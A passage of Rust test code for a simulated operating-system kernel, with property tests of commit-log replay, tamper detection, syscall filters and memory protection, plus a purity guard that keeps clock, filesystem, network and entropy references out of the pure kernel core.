                        0 => Syscall::Getpid,
                        1 => Syscall::Fork,
                        2 => Syscall::Uname,
                        3 => Syscall::PrctlNoNewPrivs,
                        4 => Syscall::Brk { grow: 64 },
                        _ => Syscall::Getrandom { len: 8 },
                    };
                    let _ = k.syscall(pid, call);
                }
            }
            Step::ForceExit(p) => {
                if let Some(pid) = pick(&pids, *p) {
                    k.force_exit(pid, 1);
                }
            }
            Step::Reap(p) => {
                if let Some(pid) = pick(&pids, *p) {
                    let _ = k.reap(pid);
                }
            }
            Step::FsPut(p, d) => {
                k.fs_put(&format!("/f{}", p % 4), d.clone());
            }
            Step::Gui(p) => {
                let w = k.win_create(&format!("w{}", p % 3));
                k.win_present(w, 64);
                k.push_key(*p);
                k.win_poll_key();
                if p % 5 == 0 {
                    k.win_destroy_all();
                }
            }
            Step::Compute(p, u) => {
                if let Some(pid) = pick(&pids, *p) {
                    k.charge_compute(pid, u64::from(*u));
                }
            }
            Step::Reset => k.reset_accounting(),
        }
    }
    k.take_commit_log().unwrap()
}

proptest! {
    /// Any recorded run replays digest-identical — zero divergences —
    /// and the rebuilt kernel's final digest matches the log's last
    /// record. The whole-trace invariant auditor passes too: honest
    /// kernels never violate their own invariants.
    #[test]
    fn arbitrary_recorded_runs_replay_clean(steps in proptest::collection::vec(arb_step(), 1..60)) {
        let log = record(&steps);
        let (k, report) = replay(&log);
        prop_assert!(report.is_clean(), "divergences: {:?}", report.divergences);
        prop_assert_eq!(report.steps, log.len());
        if let Some(last) = log.records().last() {
            prop_assert_eq!(k.state_digest(), last.digest);
        }
        prop_assert_eq!(audit(&log), Vec::new());
    }

    /// Differential test of shell vs. core: the shell [`Kernel`] driven
    /// through its public entry points and a standalone [`KernelState`]
    /// folded through the pure [`step`] agree on the outcome summary and
    /// the state digest at **every** record — the shell adds nothing to
    /// the semantics.
    #[test]
    fn shell_and_pure_core_agree_step_for_step(steps in proptest::collection::vec(arb_step(), 1..60)) {
        let log = record(&steps);
        let mut state = KernelState::with_cost_model(log.genesis().clone());
        let mut fx = Effects::new();
        for rec in log.records() {
            fx.clear();
            let got = outcome_of_step(&step(&mut state, rec.op.clone(), &mut fx));
            prop_assert_eq!(got, rec.outcome, "outcome drift at index {}", rec.index);
            prop_assert_eq!(state.digest(), rec.digest, "digest drift at index {}", rec.index);
        }
    }

    /// Flipping any one op's payload byte, outcome, or digest in a
    /// non-empty log is detected by replay.
    #[test]
    fn any_single_record_tamper_is_detected(steps in proptest::collection::vec(arb_step(), 4..40),
                                            which in any::<u16>()) {
        let log = record(&steps);
        if !log.is_empty() {
            let mut records = log.records().to_vec();
            let idx = which as usize % records.len();
            // Tamper with the digest: the cheapest universal forgery.
            records[idx].digest ^= 0xdead_beef;
            let forged = CommitLog::from_parts(log.genesis().clone(), records);
            let (_, report) = replay(&forged);
            prop_assert!(report
                .divergences
                .iter()
                .any(|d| d.kind == DivergenceKind::Digest && d.index == idx as u64));
        }
    }

    /// Forensic chains are well-formed on arbitrary logs: they start at
    /// the queried record, stay in range, and are strictly decreasing.
    #[test]
    fn forensic_chains_are_well_formed(steps in proptest::collection::vec(arb_step(), 1..40),
                                       which in any::<u16>()) {
        let log = record(&steps);
        if log.is_empty() {
            return;
        }
        let from = u64::from(which) % log.len();
        let chain = forensic_chain(&log, from);
        prop_assert_eq!(chain[0], from);
        for pair in chain.windows(2) {
            prop_assert!(pair[1] < pair[0]);
        }
        // A seeded violation: splicing a grant to a pid the log already
        // recorded as dead trips the auditor.
        if let Some(seg_rec) = log
            .records()
            .iter()
            .find(|r| matches!(r.op, CommitOp::ShmCreate { .. }) && r.outcome.is_ok())
        {
            if let Some(dead_rec) = log
                .records()
                .iter()
                .find(|r| matches!(r.op, CommitOp::DeliverFault { .. }))
            {
                let seg = freepart_simos::ShmId(seg_rec.outcome.raw());
                let victim = dead_rec.op.acting_pid().unwrap();
                let mut records = log.records().to_vec();
                records.push(freepart_simos::CommitRecord {
                    index: 0,
                    op: CommitOp::ShmGrant {
                        id: seg,
                        pid: victim,
                        perms: Perms::RW,
                    },
                    outcome: CommitOutcome::Ok(0),
                    digest: 0,
                });
                let forged = CommitLog::from_parts(log.genesis().clone(), records);
                prop_assert!(audit(&forged).iter().any(|v| v.rule == "grant-to-dead"));
            }
        }
    }
}
