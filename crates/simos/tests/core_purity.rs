//! Purity guard for the pure kernel core.
//!
//! `crates/simos/src/core/` is the verification target of simos: a
//! state machine with no I/O, no ambient clock, and no external
//! entropy. This test (mirrored by a grep in CI) keeps it honest by
//! scanning the core sources for any reference to the standard
//! library's time, filesystem, or network facilities, any entropy
//! crate, or ambient-clock types — and by holding each core file to a
//! per-file line budget so the core stays reviewable.

use std::fs;
use std::path::PathBuf;

/// Substrings that must never appear in core sources (comments
/// included — the ban is textual on purpose, so even a doc comment
/// can't normalize reaching for these).
const BANNED_SUBSTRINGS: &[&str] = &["std::time", "std::fs", "std::net", "Instant", "SystemTime"];

/// Banned as a whole word only ("Getrandom", the syscall name, is
/// fine; the entropy crate and its traits are not).
const BANNED_WORDS: &[&str] = &["rand"];

/// Per-file line budget: the core must stay small enough to audit.
const MAX_LINES_PER_FILE: usize = 700;

fn core_sources() -> Vec<(PathBuf, String)> {
    let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("src/core");
    let mut out = Vec::new();
    for entry in fs::read_dir(&dir).expect("src/core must exist") {
        let path = entry.expect("readable dir entry").path();
        if path.extension().is_some_and(|e| e == "rs") {
            let text = fs::read_to_string(&path).expect("readable core source");
            out.push((path, text));
        }
    }
    assert!(
        out.len() >= 4,
        "expected the core modules (mod, state, step, effects, dispatch), found {}",
        out.len()
    );
    out
}

fn is_word_char(c: char) -> bool {
    c.is_ascii_alphanumeric() || c == '_'
}

/// True when `word` occurs in `text` delimited by non-word characters
/// on both sides (i.e. a `\b`-bounded match).
fn contains_word(text: &str, word: &str) -> bool {
    let mut start = 0;
    while let Some(pos) = text[start..].find(word) {
        let at = start + pos;
        let before_ok = at == 0 || !text[..at].chars().next_back().is_some_and(is_word_char);
        let end = at + word.len();
        let after_ok = !text[end..].chars().next().is_some_and(is_word_char);
        if before_ok && after_ok {
            return true;
        }
        start = at + 1;
    }
    false
}

#[test]
fn core_has_no_io_clock_or_entropy() {
    for (path, text) in core_sources() {
        for banned in BANNED_SUBSTRINGS {
            assert!(
                !text.contains(banned),
                "{} references banned facility `{banned}`",
                path.display()
            );
        }
        for banned in BANNED_WORDS {
            assert!(
                !contains_word(&text, banned),
                "{} references banned word `{banned}`",
                path.display()
            );
        }
    }
}

#[test]
fn core_files_stay_within_line_budget() {
    for (path, text) in core_sources() {
        let lines = text.lines().count();
        assert!(
            lines < MAX_LINES_PER_FILE,
            "{} is {lines} lines; core files must stay under {MAX_LINES_PER_FILE}",
            path.display()
        );
    }
}

#[test]
fn word_boundary_matcher_is_sound() {
    assert!(contains_word("use rand::Rng;", "rand"));
    assert!(contains_word("rand", "rand"));
    assert!(contains_word("a rand b", "rand"));
    assert!(!contains_word("Getrandom { len }", "rand"));
    assert!(!contains_word("operand", "rand"));
    assert!(!contains_word("randomized", "rand"));
}
