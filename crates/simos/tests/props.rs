//! Property tests of kernel-level invariants under randomized operation
//! sequences.

use freepart_simos::{
    FaultKind, FdRule, Kernel, Perms, Syscall, SyscallFilter, SyscallNo, PAGE_SIZE,
};
use proptest::prelude::*;

#[derive(Debug, Clone)]
enum MemOp {
    Alloc(u16),
    Write(u8, Vec<u8>),
    Protect(u8, u8),
    Read(u8, u16),
}

fn arb_mem_op() -> impl Strategy<Value = MemOp> {
    prop_oneof![
        (1u16..2048).prop_map(MemOp::Alloc),
        (any::<u8>(), proptest::collection::vec(any::<u8>(), 1..64))
            .prop_map(|(i, d)| MemOp::Write(i, d)),
        (any::<u8>(), 0u8..5).prop_map(|(i, p)| MemOp::Protect(i, p)),
        (any::<u8>(), 1u16..128).prop_map(|(i, n)| MemOp::Read(i, n)),
    ]
}

proptest! {
    /// Arbitrary alloc/write/protect/read sequences: reads of untouched
    /// RW regions always return the last committed bytes; faults crash
    /// exactly once and keep the rest of the kernel usable.
    #[test]
    fn kernel_memory_ops_are_consistent(ops in proptest::collection::vec(arb_mem_op(), 1..40)) {
        let mut kernel = Kernel::new();
        let victim = kernel.spawn("victim");
        let observer = kernel.spawn("observer");
        let obs_addr = kernel.alloc(observer, 64, Perms::RW).unwrap();
        kernel.mem_write(observer, obs_addr, b"untouched").unwrap();

        let mut regions: Vec<(freepart_simos::Addr, u64, Perms)> = Vec::new();
        let mut shadow: Vec<Vec<u8>> = Vec::new();
        let perms_of = |p: u8| match p {
            0 => Perms::NONE,
            1 => Perms::R,
            2 => Perms::RW,
            3 => Perms::RX,
            _ => Perms::RWX,
        };
        for op in ops {
            if !kernel.is_running(victim) {
                break;
            }
            match op {
                MemOp::Alloc(len) => {
                    let a = kernel.alloc(victim, len as u64, Perms::RW).unwrap();
                    regions.push((a, len as u64, Perms::RW));
                    shadow.push(vec![0; len as usize]);
                }
                MemOp::Write(i, data) => {
                    if regions.is_empty() { continue; }
                    let idx = i as usize % regions.len();
                    let (a, len, p) = regions[idx];
                    let n = data.len().min(len as usize);
                    let r = kernel.mem_write(victim, a, &data[..n]);
                    prop_assert_eq!(r.is_ok(), p.writable());
                    if r.is_ok() {
                        shadow[idx][..n].copy_from_slice(&data[..n]);
                    }
                }
                MemOp::Protect(i, p) => {
                    if regions.is_empty() { continue; }
                    let idx = i as usize % regions.len();
                    let (a, len, _) = regions[idx];
                    let perms = perms_of(p);
                    kernel.protect(victim, a, len, perms).unwrap();
                    regions[idx].2 = perms;
                }
                MemOp::Read(i, n) => {
                    if regions.is_empty() { continue; }
                    let idx = i as usize % regions.len();
                    let (a, len, p) = regions[idx];
                    let n = (n as u64).min(len);
                    let r = kernel.mem_read(victim, a, n);
                    prop_assert_eq!(r.is_ok(), p.readable());
                    if let Ok(bytes) = r {
                        prop_assert_eq!(&bytes[..], &shadow[idx][..n as usize]);
                    }
                }
            }
        }
        // Whatever happened to the victim, the observer is untouched.
        prop_assert!(kernel.is_running(observer));
        prop_assert_eq!(kernel.mem_read(observer, obs_addr, 9).unwrap(), b"untouched");
    }

    /// Syscall filters: a locked deny-heavy filter kills the process on
    /// the first disallowed call and never resurrects it; allowed calls
    /// before that all pass.
    #[test]
    fn filter_kill_is_terminal(allowed_idx in proptest::collection::btree_set(0usize..SyscallNo::ALL.len(), 1..10),
                               probe in 0usize..SyscallNo::ALL.len()) {
        let mut kernel = Kernel::new();
        let pid = kernel.spawn("sandboxed");
        let allowed: Vec<SyscallNo> = allowed_idx.iter().map(|i| SyscallNo::ALL[*i]).collect();
        let mut filter = SyscallFilter::allowing(allowed.iter().copied());
        filter.lock();
        kernel.install_filter(pid, filter).unwrap();
        let call = |no: SyscallNo| -> Syscall {
            match no {
                SyscallNo::Getpid => Syscall::Getpid,
                SyscallNo::Brk => Syscall::Brk { grow: 1 },
                _ => Syscall::Uname, // representative benign call
            }
        };
        // Issue an allowed call first if we have a concretely-mapped one.
        if allowed.contains(&SyscallNo::Getpid) {
            prop_assert!(kernel.syscall(pid, Syscall::Getpid).is_ok());
        }
        let probe_no = SyscallNo::ALL[probe];
        let concrete = call(probe_no);
        let should_pass = allowed.contains(&concrete.number());
        let result = kernel.syscall(pid, concrete);
        prop_assert_eq!(result.is_ok(), should_pass);
        prop_assert_eq!(kernel.is_running(pid), should_pass);
        if !should_pass {
            // Terminal: nothing works afterwards, not even allowed calls.
            prop_assert!(kernel.syscall(pid, Syscall::Getpid).is_err());
        }
    }

    /// fd rules: whatever fds are designated, the rule never admits a
    /// non-designated fd and never rejects a designated one.
    #[test]
    fn fd_rules_are_exact(designated in proptest::collection::btree_set(0u32..32, 1..6),
                          probe in 0u32..32) {
        let rule = FdRule::only(designated.iter().map(|&i| freepart_simos::Fd(i)));
        let mut filter = SyscallFilter::allowing([SyscallNo::Ioctl]);
        filter.set_fd_rule(SyscallNo::Ioctl, rule);
        let verdict = filter.evaluate(&Syscall::Ioctl {
            fd: freepart_simos::Fd(probe),
            request: 0,
        });
        let expected = designated.contains(&probe);
        prop_assert_eq!(verdict == freepart_simos::FilterDecision::Allow, expected);
    }

    /// Metrics counters are monotone under arbitrary IPC traffic.
    #[test]
    fn metrics_monotone_under_ipc(msgs in proptest::collection::vec(1usize..512, 1..20)) {
        let mut kernel = Kernel::new();
        let a = kernel.spawn("a");
        let b = kernel.spawn("b");
        let chan = kernel.create_channel(a, b, 1 << 20).unwrap();
        let mut last = kernel.metrics();
        let mut last_clock = kernel.clock().now_ns();
        for n in msgs {
            kernel.ipc_send(a, chan, &vec![0u8; n]).unwrap();
            kernel.ipc_recv(b, chan).unwrap().unwrap();
            let m = kernel.metrics();
            prop_assert!(m.ipc_messages > last.ipc_messages);
            prop_assert!(m.ipc_bytes >= last.ipc_bytes + n as u64);
            prop_assert!(kernel.clock().now_ns() > last_clock);
            last = m;
            last_clock = kernel.clock().now_ns();
        }
    }

    /// Page-granular protection: protecting a sub-range read-only never
    /// affects bytes outside the touched pages.
    #[test]
    fn protect_is_page_granular(pages in 2u64..6, target in 0u64..6) {
        let mut kernel = Kernel::new();
        let pid = kernel.spawn("p");
        let base = kernel.alloc(pid, pages * PAGE_SIZE, Perms::RW).unwrap();
        let target = target % pages;
        kernel
            .protect(pid, base.offset(target * PAGE_SIZE), PAGE_SIZE, Perms::R)
            .unwrap();
        for page in 0..pages {
            let addr = base.offset(page * PAGE_SIZE);
            let writable = kernel.mem_write(pid, addr, &[1]).is_ok();
            prop_assert_eq!(writable, page != target, "page {}", page);
            if !writable {
                // The protection fault killed the process; verify the
                // fault shape and stop.
                prop_assert!(!kernel.is_running(pid));
                let state = &kernel.process(pid).unwrap().state;
                prop_assert!(matches!(
                    state,
                    freepart_simos::ProcessState::Crashed(f)
                        if f.kind == FaultKind::Protection
                ));
                break;
            }
        }
    }
}
